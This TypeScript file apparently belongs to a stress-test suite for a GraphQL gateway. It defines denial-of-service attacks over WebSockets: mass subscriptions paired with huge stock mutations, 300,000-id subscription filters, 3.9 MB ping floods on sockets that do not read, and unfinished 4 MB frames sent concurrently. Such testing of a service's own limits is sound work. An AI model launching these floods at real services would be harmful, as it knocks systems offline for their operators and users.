import { randomBytes } from 'node:crypto';
import type { WebSocket } from 'ws';
import { type Attack, open, openWebSocket, pause, post, pour, subscribeMessage, together } from './attack.ts';
import type { Target } from './target.ts';

const upgrade = ({ url }: Target): string =>
  [
    'GET /graphql HTTP/1.1',
    `Host: ${new URL(url).host}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    'Sec-WebSocket-Protocol: graphql-transport-ws',
    '\r\n',
  ].join('\r\n');

/** A frame of a client, masked with zeros. Opcode 1 is text, 9 is a ping. */
const frame = (opcode: number, payload: Buffer, length = payload.length): Buffer => {
  const header = Buffer.alloc(14);
  header[0] = 0x80 | opcode;
  header[1] = 0x80 | 127;
  header.writeBigUInt64BE(BigInt(length), 2);
  return Buffer.concat([header, payload]);
};

const closeAll = (sockets: readonly (WebSocket | null)[]): void => {
  for (const socket of sockets) socket?.terminate();
};

const stockChanged =
  'subscription ($ids: [ID!]) { stockChanged(filter: { productIds: $ids }) { quantity channel { key } } }';

const streams = async (target: Target, count: number): Promise<readonly (WebSocket | null)[]> => {
  const perSocket = 50;
  const sockets = await Promise.all(
    Array.from({ length: Math.ceil(count / perSocket) }, () => openWebSocket(target)),
  );
  for (const [at, socket] of sockets.entries()) {
    for (let one = 0; one < perSocket; one += 1) {
      socket?.send(
        subscribeMessage(`${at}-${one}`, 'subscription { stockChanged { quantity soldOut optionId } }'),
      );
    }
  }
  await pause(500);
  return sockets;
};

const update = (items: readonly object[]): string =>
  JSON.stringify({
    query: 'mutation ($i: SetStockInput!) { setStock(input: $i) { userErrors { code } } }',
    variables: { i: { items } },
  });

/** Attacks on WebSockets and with subscriptions. */
export const bySocket: readonly Attack[] = [
  {
    name: '1,000 stock streams and a mutation of 1,000 items',
    run: async (target) => {
      const sockets = await streams(target, 1_000);
      const items = Array.from({ length: 1_000 }, (_, at) => ({
        channel: 'global-link',
        productId: `product-s${at}`,
        quantity: at,
      }));
      await post(target, update(items));
      await pause(500);
      closeAll(sockets);
    },
  },
  {
    name: '100 stock streams and an item of 10,000 options',
    run: async (target) => {
      const sockets = await streams(target, 100);
      const options = Array.from({ length: 10_000 }, (_, at) => ({ optionId: `opt-${at}`, quantity: at }));
      await post(
        target,
        update([{ channel: 'global-link', productId: 'product-wide', quantity: 1, options }]),
      );
      await pause(500);
      closeAll(sockets);
    },
  },
  {
    name: '40 subscriptions with 300,000 product ids each',
    run: async (target) => {
      const ids = Array.from({ length: 300_000 }, (_, at) => String(at));
      const message = subscribeMessage('1', stockChanged, { ids });
      const sockets: (WebSocket | null)[] = [];
      for (let at = 0; at < 40 * target.share; at += 1) {
        const socket = await openWebSocket(target);
        socket?.send(message);
        sockets.push(socket);
        await pause(20);
      }
      await pause(2_000);
      closeAll(sockets);
    },
  },
  {
    name: 'pings of 3.9 MB before the connection is acknowledged, no key',
    run: async (target) => {
      const ping = frame(9, Buffer.alloc(125));
      const large = frame(2, Buffer.alloc(3_900_000));
      await together(60, async () => {
        const socket = await open(target);
        // It does not read: the answers to its pings stay with the gateway.
        socket.pause();
        socket.write(upgrade(target));
        await pause(200);
        await pour(socket, Buffer.concat(Array.from({ length: 500 }, () => ping)), 4_000_000);
        await pour(socket, large, large.length);
        socket.destroy();
      });
    },
  },
  {
    name: 'unfinished frames of 4 MB, 150 at once, no key',
    run: async (target) => {
      const part = frame(1, Buffer.alloc(3_900_000, 'x'), 4_000_000);
      await together(150, async () => {
        const socket = await open(target);
        socket.resume();
        socket.write(upgrade(target));
        await pause(200);
        await pour(socket, part, part.length);
        await pause(2_000);
        socket.destroy();
      });
    },
  },
  {
    name: '250 queries on a socket that does not read',
    run: async (target) => {
      const socket = await openWebSocket(target);
      socket?.pause();
      const type = 'name description fields { name description args { name description } }';
      for (let at = 0; at < 250; at += 1) {
        socket?.send(subscribeMessage(String(at), `{ __schema { types { ${type} } } }`));
      }
      await pause(3_000);
      socket?.terminate();
    },
  },
];
